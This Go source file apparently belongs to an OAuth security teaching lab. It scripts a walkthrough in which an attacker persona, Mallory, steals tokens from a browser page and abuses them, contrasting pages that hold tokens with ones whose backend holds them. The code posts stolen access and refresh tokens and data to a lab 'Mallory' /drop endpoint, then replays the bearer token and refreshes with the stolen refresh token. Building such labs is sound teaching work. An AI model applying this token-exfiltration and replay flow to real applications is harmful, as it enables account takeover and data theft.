package walkthrough

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"time"

	"claimcheck/mockprovider/lab"
	"claimcheck/mockprovider/trace"
)

// browserApp is the flow browser-app: what a script of Mallory's gets out of a page
// that holds its tokens, and of one whose backend holds them (RFC 10017 §5, §6).
func browserApp() *script {
	actions := map[string]*action{
		"connected": {
			half: HalfResponse, owns: during("connected", "/token"), seen: grants("authorization_code"), good: accepted,
			preview: previewConnect, back: connectForAlice, stead: true,
		},
		// The page holds the tokens.
		"api-request": codeActions()["api-request"],
		"api-check":   {of: "api-request", half: HalfFindings},
		// The backend holds them.
		"page-call": {
			half: HalfRequest, after: "connected", owns: during("page-call", "/api/steps"), good: accepted,
			preview: needs("connected", "holds no tokens yet", previewPageCall), back: pageCall,
		},
		"page-check":   {of: "page-call", half: HalfFindings},
		"backend-call": {of: "page-call", half: HalfRequest, within: func(e *trace.Entry) bool { return e.To.Role == trace.RoleRS }},
		"page-answer":  {of: "page-call", half: HalfResponse},
		"steal": {
			half: HalfRequest, after: "connected", owns: during("steal", "/drop"), good: accepted,
			preview: previewSteal, back: pageCall,
		},
		"mallory-calls": {
			half: HalfRequest, after: "steal", owns: during("mallory-calls", "/steps"),
			good: func(w *Walk, e *trace.Entry) bool {
				if w.v.Lite() {
					return accepted(w, e)
				}
				f := e.Refusal()
				return f != nil && f.FindingID() == "backend_session" // no cookie, not a wrong one
			},
			preview: needs("steal", "has not been attacked yet", previewMalloryCalls), back: sendAs(lab.MalloryParty()),
		},
		"mallory-refreshes": {
			half: HalfRequest, after: "mallory-calls", owns: during("mallory-refreshes", "/token"), good: accepted,
			preview: needs("steal", "has not been attacked yet", previewStolenRefresh), back: sendAs(lab.MalloryParty()),
		},
		"ride": {
			half: HalfRequest, after: "steal", owns: during("ride", "/api/steps"), good: accepted,
			preview: needs("page-call", "has not asked for the steps yet", previewPageCall), back: pageCall,
		},
		"carry-off": {
			half: HalfRequest, after: "ride", owns: during("carry-off", "/drop"), good: accepted,
			preview: needs("ride", "has not answered Mallory’s script yet", previewCarryOff), back: pageCall,
		},
		"sign-out": {
			half: HalfRequest, after: "ride", owns: during("sign-out", "/disconnect"), good: redirects,
			preview: needs("ride", "has not answered Mallory’s script yet", previewSignOut), back: pageCall,
		},
		"ride-again": {
			half: HalfRequest, after: "sign-out", owns: during("ride-again", "/api/steps"), good: refusedBy("backend_session"),
			preview: needs("sign-out", "still has her session", previewPageCall), back: pageCall,
		},
		"end":         {of: "mallory-refreshes", half: HalfMemory},
		"end-backend": {of: "ride-again", half: HalfMemory},
	}
	actions["api-request"].after = "connected"
	actions["api-request"].preview = previewWithToken("connected", lab.GetSteps())
	actions["api-request"].owns, actions["api-request"].seen = during("api-request", "/v1/steps"), calls
	actions["api-request"].expires = &expiry{"exp", "access token", "connected", "connected"}
	return &script{
		actions: actions, memory: browserAppValue,
		faults: map[string]preparation{
			"api-request/altered_token": alteredToken,
			"page-call/no_header":       dropHeader(lab.BackendHeader),
			"page-call/other_site": func(_ context.Context, _ *Walk, d *Draft) error {
				d.Header.Del(lab.BackendHeader)
				d.Header.Set("Sec-Fetch-Site", "cross-site")
				d.Header.Set("Sec-Fetch-Mode", "no-cors")
				return nil
			},
			"page-call/token_in_url": func(_ context.Context, w *Walk, d *Draft) error {
				d.Header.Del(lab.BackendHeader)
				d.URL.RawQuery = url.Values{"access_token": {"guessed-by-mallory"}}.Encode()
				return nil
			},
			"mallory-calls/guessed_cookie": func(_ context.Context, _ *Walk, d *Draft) error {
				d.Header.Set("Cookie", "fittrack_web_session=guessed-by-mallory")
				return nil
			},
			"mallory-calls/too_late":         later(lab.AccessTokenLifetime + time.Second),
			"mallory-refreshes/too_late":     later(400 * 24 * time.Hour),
			"mallory-refreshes/wider_scope":  set("scope", lab.ScopeStepsRead+" "+lab.ScopeStepsWrite),
			"mallory-refreshes/other_client": set("client_id", "fittrack"),
		},
	}
}

func dropHeader(name string) preparation {
	return func(_ context.Context, _ *Walk, d *Draft) error {
		d.Header.Del(name)
		return nil
	}
}

// pageCall sends what a script in the page makes the browser send.
func pageCall(ctx context.Context, w *Walk, edited *http.Request) (*trace.Entry, error) {
	if edited == nil {
		generated, _, err := w.Preview(ctx, w.run.Step())
		if err != nil {
			return nil, err
		}
		if edited, err = generated.request(ctx); err != nil {
			return nil, err
		}
	}
	return w.run.PageCall(ctx, edited)
}

func previewPageCall(ctx context.Context, w *Walk) (*Draft, error) {
	r, err := w.run.PageRequest(ctx)
	if err != nil {
		return nil, err
	}
	return draftOf(r)
}

// previewSteal is the form with everything that Mallory's script can read in the
// page.
func previewSteal(ctx context.Context, w *Walk) (*Draft, error) {
	before := "api-request"
	if !w.v.Lite() {
		before = "page-call"
	}
	return needs(before, "has not shown the steps yet", func(ctx context.Context, w *Walk) (*Draft, error) {
		return delivery(ctx, w, w.run.ScriptReads())
	})(ctx, w)
}

func delivery(ctx context.Context, w *Walk, form url.Values) (*Draft, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, w.run.Lab().MalloryURL()+"/drop", strings.NewReader(form.Encode()))
	if err != nil {
		return nil, err
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("Sec-Fetch-Mode", "no-cors")
	r.Header.Set("Sec-Fetch-Site", "cross-site")
	return draftOf(r)
}

// previewCarryOff is the form with what the backend answered to Mallory's script.
func previewCarryOff(ctx context.Context, w *Walk) (*Draft, error) {
	var answer struct {
		Steps json.RawMessage `json:"steps"`
	}
	w.current("ride").Response.JSON(&answer)
	return delivery(ctx, w, url.Values{"steps": {string(answer.Steps)}})
}

// previewMalloryCalls is the call that Mallory tries from her own computer, with
// what her script has sent her.
func previewMalloryCalls(ctx context.Context, w *Walk) (*Draft, error) {
	if !w.v.Lite() {
		d, err := previewPageCall(ctx, w)
		if err == nil {
			d.Header.Del("Sec-Fetch-Mode")
			d.Header.Del("Sec-Fetch-Site")
		}
		return d, err
	}
	d, err := get(w.run.Lab().Origin() + "/rs/" + w.run.Lab().ID() + "/" + lab.StepCloud + "/v1/steps")
	if err != nil {
		return nil, err
	}
	d.Header.Set("Authorization", "Bearer "+w.current("steal").Request.Param("access_token"))
	return d, nil
}

// previewStolenRefresh is a refresh with the stolen refresh token. A public client
// has no secret that Mallory would lack.
func previewStolenRefresh(ctx context.Context, w *Walk) (*Draft, error) {
	form := url.Values{"grant_type": {"refresh_token"}, "refresh_token": {w.current("steal").Request.Param("refresh_token")}, "client_id": {w.v.Client}}
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, w.run.Lab().Issuer()+"/token", strings.NewReader(form.Encode()))
	if err != nil {
		return nil, err
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return draftOf(r)
}

func previewSignOut(ctx context.Context, w *Walk) (*Draft, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, w.home().JoinPath("disconnect").String(), http.NoBody)
	if err != nil {
		return nil, err
	}
	r.Header.Set("Accept", "text/html")
	r.Header.Set("Sec-Fetch-Mode", "navigate")
	r.Header.Set("Sec-Fetch-Site", "same-origin")
	return draftOf(r)
}

// browserAppValue is what the page or its backend keeps.
func browserAppValue(w *Walk, name string) string {
	s := w.run.Session()
	switch name {
	case "access_token":
		if e := w.current("connected"); e != nil {
			return carried(e, HalfResponse, name)
		}
	case "refresh_token":
		if e := w.current("connected"); e != nil {
			return carried(e, HalfResponse, name)
		}
	case "session cookie":
		if e := w.current("page-call"); e != nil {
			return e.Request.Header.Get("Cookie")
		}
	case "steps":
		b, err := json.Marshal(s.Steps)
		if err == nil && s.Steps != nil {
			return string(b)
		}
	}
	return ""
}
